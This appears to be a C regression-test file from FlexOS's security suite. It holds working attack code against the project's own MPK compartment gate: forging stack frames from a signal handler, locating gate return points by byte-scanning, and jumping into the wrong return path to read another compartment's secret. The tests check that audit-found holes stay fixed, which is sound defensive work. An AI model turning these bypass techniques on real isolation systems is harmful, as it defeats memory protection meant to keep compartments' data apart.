/*
 * attack --carry-back signal|register (limit 11 of docs/threat-model.md;
 * found by an audit): the private-stack gate has two ways back, the
 * register path's and the carry path's (stack arguments, sret), and the
 * carry path's pops two more words from its caller's stack. Each now takes
 * only a call that came in by its own path (MPK_G_CARRY_CALLER on the
 * gate page's list of callers); a jump to the other gives the report, 134.
 *
 * signal: in a child of fork() (the filter off: it is traced), lib1
 * installs a handler for SIGUSR1. The parent, its tracer, stops app at the
 * gate's first instruction (a breakpoint) and delivers SIGUSR1 there: the
 * delivery stub calls lib1's handler from the signal stack, which every
 * compartment may write, since app was in the gate's code. The handler
 * writes a frame of its choosing where the gate keeps app's stack pointer
 * (the signal stack: callee-saved registers, no carry, the address of its
 * code) and jumps to the carry path's way back. Before (checked with the
 * previous gate.S), that way back took app off the list and returned to
 * lib1's code with app's PKRU, which read app's secret (status 1).
 *
 * register: app calls lib1 with stack arguments (the carry path), and lib1
 * jumps to the register path's way back, which would return through the
 * carry the carry path keeps on app's stack. Before, that was a fault at
 * the carry taken for an address (123).
 */
#define _GNU_SOURCE 1
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "../../backends/mpk/mpk.h"
#include "attacklib.h"
#include "carryback.h"
#include "evil.h"
#include "signalat.h"

extern char flexos__mpk_gate_carry_reopen_checked[];
extern char flexos__mpk_gate_reopen_checked[];

/* What lib1 reads, with its own PKRU: shared. */
static struct {
	uintptr_t secret;
	uint32_t app_pkru;
	const char *way_back;
	uintptr_t frame[8];
} cb FLEXOS_SHARED;

/*
 * The way back of the gate's path whose opening of the page is at
 * `reopen`: the instruction after its call of the callee (call *%r11;
 * fwait), found as an attacker would, by its bytes.
 */
static const char *way_back(uintptr_t reopen)
{
	for (uintptr_t a = reopen - 4; a > reopen - 200; a--) {
		const volatile unsigned char *p = (const volatile unsigned char *)a;
		if (p[0] == 0x41 && p[1] == 0xff && p[2] == 0xd3 && p[3] == 0x9b)
			return (const char *)(a + 3);
	}
	return NULL;
}

static void cb_evil(void)
{
	evil_ran("carry-back", cb.secret, cb.app_pkru);
}

/* lib1's handler, called by the delivery stub from the signal stack. */
static void cb_handler(int sig)
{
	struct mpk_gate_page *gp = flexos__mpk_thread.gp;
	unsigned mark = gp->ids[gp->depth - 1];
	uintptr_t *app_sp = (uintptr_t *)gp->sp[mark & (MPK_SLOTS - 1)];

	(void)sig;
	printf("carry-back: in lib1's handler, called for compartment %u (mark %#x) from "
	       "%p: lib1 writes its frame there and jumps to the carry path's way back\n",
	       mark & (MPK_SLOTS - 1), mark, (void *)app_sp);
	fflush(stdout);
	for (int i = 0; i < 6; i++)
		app_sp[i] = 0; /* callee-saved registers */
	app_sp[6] = 0;         /* the carry: no sret result to copy */
	app_sp[7] = 0;         /* the sret pointer */
	app_sp[8] = (uintptr_t)cb_evil;
	memset(cb.frame, 0, sizeof(cb.frame)); /* the callee's frame (rbx): nothing to copy */
	__asm__ volatile("movq %0, %%rbx\n\t"
			 "jmp *%1"
			 :
			 : "r"(cb.frame), "r"(cb.way_back)
			 : "rbx", "memory");
	__builtin_unreachable();
}

/* Run by lib1 (lib1_call: cb(x + 1) + 1). */
static long cb_install(long x)
{
	struct sigaction sa;

	(void)x;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = cb_handler;
	return sigaction(SIGUSR1, &sa, NULL);
}

static long cb_nothing(long x)
{
	return x;
}

static void child(void)
{
	long r = 0;

	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP); /* traced */
	flexos_gate_r(lib1, r, lib1_call, cb_install, 0);
	if (r != 1)
		_exit(2);
	raise(SIGSTOP); /* the tracer arms its breakpoint now */
	flexos_gate_r(lib1, r, lib1_call, cb_nothing, 0);
	printf("carry-back: app's call came back (%ld) after lib1's handler: FAIL\n", r);
	fflush(stdout);
	_exit(1);
}

static int carry_back_signal(void)
{
	cb.way_back = way_back((uintptr_t)flexos__mpk_gate_carry_reopen_checked);
	if (!cb.way_back)
		return 2;
	return signal_at(child, (uintptr_t)&flexos__backend_gate, SIGUSR1,
			 "carry-back: app stopped at the gate's first instruction; SIGUSR1 "
			 "delivered there");
}

/* Run by lib1, called by the carry path (lib1_call8); never returns. */
static long cb_register_back(long x)
{
	(void)x;
	memset(cb.frame, 0, sizeof(cb.frame)); /* the entry's flags: none */
	__asm__ volatile("movq %0, %%rsp\n\t"
			 "jmp *%1"
			 :
			 : "r"(cb.frame), "r"(cb.way_back)
			 : "memory");
	__builtin_unreachable();
}

static int carry_back_register(void)
{
	long r = 0;

	cb.way_back = way_back((uintptr_t)flexos__mpk_gate_reopen_checked);
	if (!cb.way_back)
		return 2;
	printf("carry-back: app calls lib1 with stack arguments; lib1 jumps to the register "
	       "path's way back\n");
	fflush(stdout);
	flexos_gate_r(lib1, r, lib1_call8, cb_register_back, 0, 0, 0, 0, 0, 0, 0);
	printf("carry-back: lib1 came back (%ld): FAIL\n", r);
	return 1;
}

int carry_back(const char *how, uintptr_t app_secret)
{
	cb.secret = app_secret;
	cb.app_pkru = flexos__mpk_rdpkru();
	if (!strcmp(how, "signal"))
		return carry_back_signal();
	if (!strcmp(how, "register"))
		return carry_back_register();
	return 2;
}

/*
 * attack --carry-read args|sret (found by an audit): the carry path copies
 * the caller's stack arguments (from its stack pointer) and the callee's
 * sret result (from below its frame, %rbx) with the gate page open. A
 * newlib compartment's open PKRU also opens key 0, so a compartment that
 * chose where those copies read had memory copied that it may not read.
 * Both are now read first with the side's own PKRU (their first and last
 * bytes), so a copy from memory it may not read faults there, with its
 * own PKRU. Here with lib1, a glibc compartment (its open PKRU adds only
 * the gate key; the newlib case is the same code): args, lib1 jumps to the
 * carry path with its stack pointer at the top of its .bss, its stack
 * arguments in lib2's .bss right above; sret, lib1, called by the carry
 * path, points its frame at the bottom of its .bss, its sret result in
 * app's .bss right below, and takes the way back. The report gives the
 * PKRU of the fault: lib1's own; before, its open PKRU (the copy).
 */
extern char __flexos_app_bss_end[], __flexos_lib1_bss_start[], __flexos_lib1_bss_end[],
    __flexos_lib2_bss_start[];

static struct {
	const char *gate;
	unsigned long r10;
	void *r11;
	uintptr_t *frame;
} cr FLEXOS_SHARED;

/* Run by lib1 (lib1_call); never returns. */
static long cr_args_in_lib1(long x)
{
	/* The return address a call would leave at the top of lib1's .bss, the arguments above. */
	uintptr_t sp = (uintptr_t)__flexos_lib1_bss_end - 8;

	(void)x;
	printf("carry-read args: lib1 (PKRU %#x) jumps to the carry path with its stack pointer at "
	       "%#lx, its stack arguments at %p, in lib2's .bss\n",
	       flexos__mpk_rdpkru(), (unsigned long)sp, (void *)__flexos_lib2_bss_start);
	fflush(stdout);
	register unsigned long r10 __asm__("r10") = cr.r10;
	register void *r11 __asm__("r11") = cr.r11;
	__asm__ volatile("movq %[sp], %%rsp\n\t"
			 "jmp *%[gate]"
			 :
			 : "r"(r10), "r"(r11), [sp] "r"(sp), [gate] "r"(cr.gate)
			 : "memory");
	__builtin_unreachable();
}

/* Run by lib1, called by the carry path (lib1_call8); never returns. */
static long cr_sret_in_lib1(long x)
{
	(void)x;
	uintptr_t frame = (uintptr_t)__flexos_lib1_bss_start + 16;

	cr.frame = (uintptr_t *)frame;
	cr.frame[0] = 16ul << FLEXOS_GATE_SRET_SHIFT; /* 16 words of sret result, below */
	printf("carry-read sret: lib1 (PKRU %#x) takes the carry path's way back with its frame "
	       "at %#lx, its sret result from %#lx, in app's .bss\n",
	       flexos__mpk_rdpkru(), (unsigned long)frame, (unsigned long)(frame - 128));
	fflush(stdout);
	__asm__ volatile("movq %0, %%rbx\n\t"
			 "jmp *%1"
			 :
			 : "r"(cr.frame), "r"(cb.way_back)
			 : "rbx", "memory");
	__builtin_unreachable();
}

int carry_read(const char *how, const char *gate, unsigned long r10, void *r11)
{
	long r = 0;

	cr.gate = gate;
	cr.r10 = r10;
	cr.r11 = r11;
	if (!strcmp(how, "args")) {
		if ((uintptr_t)__flexos_lib1_bss_end != (uintptr_t)__flexos_lib2_bss_start) {
			printf("carry-read: lib1's .bss is not right below lib2's here\n");
			return 2;
		}
		flexos_gate_r(lib1, r, lib1_call, cr_args_in_lib1, 0);
	} else if (!strcmp(how, "sret")) {
		cb.way_back = way_back((uintptr_t)flexos__mpk_gate_carry_reopen_checked);
		if ((uintptr_t)__flexos_app_bss_end != (uintptr_t)__flexos_lib1_bss_start ||
		    !cb.way_back) {
			printf("carry-read: app's .bss is not right below lib1's here\n");
			return 2;
		}
		flexos_gate_r(lib1, r, lib1_call8, cr_sret_in_lib1, 0, 0, 0, 0, 0, 0, 0);
	} else {
		return 2;
	}
	printf("carry-read %s: back in app (%ld): FAIL\n", how, r);
	return 1;
}
